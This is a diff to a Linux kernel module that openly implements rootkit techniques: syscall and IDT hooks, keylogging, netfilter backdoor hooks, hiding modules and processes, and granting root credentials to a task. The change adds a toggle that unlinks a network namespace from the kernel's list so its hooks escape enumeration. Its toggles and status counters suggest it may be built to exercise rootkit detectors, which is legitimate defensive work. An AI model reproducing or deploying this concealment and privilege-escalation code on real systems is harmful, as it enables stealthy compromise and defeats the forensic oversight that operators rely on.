@@ -28,6 +28,9 @@
  * shows that namespace's inode number, what /proc/PID/ns/net names),
  * nf_hook_ingress (the same hook among the ingress hooks of init_net's
  * loopback device, NFPROTO_NETDEV: where a per-device backdoor sits),
+ * hide_netns (the writer's network namespace unlinked from
+ * net_namespace_list, held by the module until relinked; the status shows
+ * its inode number),
  * hide_module (THIS_MODULE unlinked from the module list), hide_pid (a
  * task unlinked from the task list), root_pid (a task's cred ids set to 0),
  * euid_pid (a task's euid and fsuid alone set to 0, its real uid left: what
@@ -468,6 +471,40 @@ static int set_nf_hook_ingress(bool on)
 	return 0;
 }
 
+/* The writer's network namespace unlinked from the kernel's list of them
+ * (what would hide its hooks from a walk of the list); the module's
+ * reference keeps the namespace from being torn down while it is off the
+ * list. */
+
+static struct net *hidden_net;
+
+static int set_hide_netns(bool on)
+{
+	struct net *net;
+
+	if (on == !!hidden_net)
+		return 0;
+	if (!on) {
+		down_write(&net_rwsem);
+		list_add_tail_rcu(&hidden_net->list, &net_namespace_list);
+		up_write(&net_rwsem);
+		put_net(hidden_net);
+		hidden_net = NULL;
+		return 0;
+	}
+	net = get_net(current->nsproxy->net_ns);
+	if (net == &init_net) {
+		put_net(net);
+		return -EINVAL;
+	}
+	down_write(&net_rwsem);
+	list_del_rcu(&net->list);
+	up_write(&net_rwsem);
+	synchronize_rcu();
+	hidden_net = net;
+	return 0;
+}
+
 /* ---- (f) hide_module: THIS_MODULE unlinked from the module list ---- */
 
 static struct mutex *module_mutex_p;
@@ -763,14 +800,15 @@ static int rk_show(char *buf, size_t size)
 {
 	return scnprintf(buf, size,
 			 "syscall %d\nidt %d\ntext %d\nrodata %d\nfops %d\nkeylog %d\nnf_hook %d\n"
-			 "nf_hook_netns %u\nnf_hook_ingress %d\nhide_module %d\n"
+			 "nf_hook_netns %u\nnf_hook_ingress %d\nhide_netns %u\nhide_module %d\n"
 			 "hide_pid %d\nroot_pid %d\neuid_pid %d\nreparent_pid %d\nuntree_pid %d\n"
 			 "getpid_hook_calls %d\ntcp_init_hook_calls %d\ntty_bytes_seen %d\n"
 			 "nf_packets_seen %d\n"
 			 "tcp_prot_init %s\nn_tty_receive_buf2 %s\n"
 			 "sys_call_table 0x%lx\nidt_gate 0x%lx\ntext_byte 0x%lx\nrodata_byte 0x%lx\n",
 			 syscall_on, idt_on, text_on, rodata_on, fops_on, keylog_on, nf_hook_on,
-			 nf_hook_net ? nf_hook_net->ns.inum : 0, !!rk_nf_ingress_ops.dev, module_hidden,
+			 nf_hook_net ? nf_hook_net->ns.inum : 0, !!rk_nf_ingress_ops.dev,
+			 hidden_net ? hidden_net->ns.inum : 0, module_hidden,
 			 hidden_task ? hidden_task->pid : 0,
 			 rooted_euid_only ? 0 : rooted_pid, rooted_euid_only ? rooted_pid : 0,
 			 reparented_task ? reparented_task->pid : 0,
@@ -827,6 +865,8 @@ static ssize_t rk_write(struct file *f, const char __user *ubuf, size_t count, l
 		err = set_nf_hook_netns(val);
 	else if (!strcmp(name, "nf_hook_ingress"))
 		err = set_nf_hook_ingress(val);
+	else if (!strcmp(name, "hide_netns"))
+		err = set_hide_netns(val);
 	else if (!strcmp(name, "hide_module"))
 		err = set_hide_module(val);
 	else if (!strcmp(name, "hide_pid"))
@@ -912,6 +952,7 @@ static void __exit rk_exit(void)
 	set_nf_hook(false);
 	set_nf_hook_netns(false);
 	set_nf_hook_ingress(false);
+	set_hide_netns(false);
 	set_hide_module(false);
 	hide_task(0);
 	root_task(0, false);
